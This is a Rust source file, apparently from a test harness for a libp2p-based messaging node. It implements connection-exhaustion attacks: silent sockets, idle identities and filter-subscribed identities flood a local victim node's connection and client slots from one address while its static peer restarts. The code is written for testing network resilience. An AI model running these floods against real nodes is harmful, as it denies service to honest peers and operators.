//! Attack 7: one address occupies as many connections as the victim accepts.

use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use futures::FutureExt as _;
use libp2p::identity::Keypair;
use tokio::io::AsyncReadExt as _;
use tokio::net::TcpStream;

use super::{Attack, Price, nothing, with_services};
use crate::node::Target;
use crate::proxy::{self, Proxy};
use crate::raw::RawIdle;
use crate::service_client::ServiceClient;
use crate::test_network::{prefix, pubsub_topic};
use crate::{HostileError, StageOptions, Tasks, TestNetwork, asks};

const ADDRESS: Ipv4Addr = Ipv4Addr::new(127, 0, 10, 1);
/// Number of sockets or identities kept open: as many connections as a node accepts.
const CONNECTIONS: u32 = 150;
/// Number of identities with a subscription: more than a node's places for clients.
const SUBSCRIBED: u32 = 600;
/// Number of identities with a subscription that arrive per second.
const SUBSCRIBED_PER_S: u32 = 60;
/// Connections opened per second: more than are closed by timeouts of 10 s.
const PER_S: u32 = 20;
/// Maximum number of connections opened, enough for seven minutes at [`PER_S`].
const ATTEMPTS_MAX: u32 = 9_000;
/// Duration of the attack before the static peer restarts.
const FILLING: Duration = Duration::from_secs(11);
/// Time after the restart before messages are counted.
const BACK: Duration = Duration::from_secs(6);

/// Attack b7 with TCP sockets that send nothing.
pub const SILENT_SOCKETS: Attack = Attack {
    name: "b7-silent-sockets",
    about: "150 silent sockets of one address, 20 SYN a second; the static peer restarts meanwhile",
    price: Price::Nothing,
    options: StageOptions::default,
    start: |stage| {
        async {
            let address = stage.victim.socket();
            let mut tasks = Tasks::default();
            tasks.spawn(sockets(address));
            restart_static_peer(stage).await?;
            Ok(tasks)
        }
        .boxed()
    },
    then: nothing,
};

/// Attack b7 with connected peers that do nothing.
pub const IDLE_IDENTITIES: Attack = Attack {
    name: "b7-idle-identities",
    about: "150 idle identities of one address, 20 dials a second; the static peer restarts meanwhile",
    price: Price::Nothing,
    options: StageOptions::default,
    start: |stage| {
        async {
            let target = stage.victim.target();
            let mut tasks = Tasks::default();
            tasks.spawn(async move {
                let mut idle = Tasks::default();
                let mut ticks = tokio::time::interval(Duration::from_secs(1) / PER_S);
                for _ in 0..CONNECTIONS {
                    ticks.tick().await;
                    idle.spawn(async move {
                        for _ in 0..ATTEMPTS_MAX / CONNECTIONS {
                            idle_until_end(target).await;
                            tokio::time::sleep(Duration::from_secs(1)).await;
                        }
                    });
                }
                std::future::pending::<()>().await;
            });
            restart_static_peer(stage).await?;
            Ok(tasks)
        }
        .boxed()
    },
    then: nothing,
};

/// Attack b7 with clients that have a filter subscription each.
pub const SUBSCRIBED_IDENTITIES: Attack = Attack {
    name: "b7-subscribed-identities",
    about: "600 identities of one address with a filter subscription each, 60 dials a second; the static peer restarts \
            meanwhile",
    price: Price::Nothing,
    options: with_services,
    start: |stage| {
        async {
            let target = stage.victim.target();
            let mut tasks = Tasks::default();
            tasks.spawn(async move {
                let mut subscribed = Tasks::default();
                let mut ticks = tokio::time::interval(Duration::from_secs(1) / SUBSCRIBED_PER_S);
                for n in 0..SUBSCRIBED {
                    ticks.tick().await;
                    subscribed.spawn(async move {
                        for _ in 0..ATTEMPTS_MAX / SUBSCRIBED {
                            subscribed_until_end(target, n).await;
                            tokio::time::sleep(Duration::from_secs(1)).await;
                        }
                    });
                }
                std::future::pending::<()>().await;
            });
            restart_static_peer(stage).await?;
            Ok(tasks)
        }
        .boxed()
    },
    then: nothing,
};

/// Restarts the victim's static peer, so that the victim must dial it again during the attack.
async fn restart_static_peer(stage: &mut TestNetwork) -> Result<(), HostileError> {
    tokio::time::sleep(FILLING).await;
    let peer = stage.honest.first_mut().expect("there is a static peer");
    peer.kill().await;
    peer.launch().await?;
    tokio::time::sleep(BACK).await;
    Ok(())
}

/// Connects without a pubsub stream and does nothing until the victim ends the connection.
async fn idle_until_end(target: Target) {
    let there = Ipv4Addr::LOCALHOST;
    if let Ok(proxy) = Proxy::start(there, target.socket, ADDRESS).await {
        let key = Keypair::generate_ed25519();
        let address = target.addr_at(proxy.addr());
        if let Ok(idle) = RawIdle::dial(key, &address).await {
            idle.closed().await;
        }
    }
}

/// Subscribes to a topic of its own and then idles until the victim ends the connection.
async fn subscribed_until_end(target: Target, n: u32) {
    if let Ok(mut client) = ServiceClient::connect(ADDRESS, target, None).await {
        let topics = std::iter::once(format!("{}/idle-{n}/proto", prefix(0)));
        let wanted = asks::subscribe(&pubsub_topic(0), topics);
        if client.raw.ask(asks::FILTER, &wanted).await.is_ok() {
            client.raw.closed().await;
        }
    }
}

/// Opens sockets at a steady rate up to [`CONNECTIONS`], and replaces those that the victim closes.
async fn sockets(address: SocketAddr) {
    let mut ticks = tokio::time::interval(Duration::from_secs(1) / PER_S);
    let mut open: Vec<tokio::task::JoinHandle<()>> = Vec::new();
    let mut holding = Tasks::default();
    for _ in 0..ATTEMPTS_MAX {
        ticks.tick().await;
        open.retain(|socket| !socket.is_finished());
        if open.len() < CONNECTIONS as usize {
            let (closed, until_closed) = tokio::sync::oneshot::channel::<()>();
            holding.spawn(async move {
                if let Ok(socket) = proxy::dial(ADDRESS, address).await {
                    until_end(socket).await;
                }
                drop(closed);
            });
            open.push(tokio::spawn(async move {
                let _ = until_closed.await;
            }));
        }
    }
}

/// Reads until the other side closes the socket.
async fn until_end(mut socket: TcpStream) {
    let mut byte = [0; 64];
    while socket.read(&mut byte).await.is_ok_and(|read| read > 0) {}
}
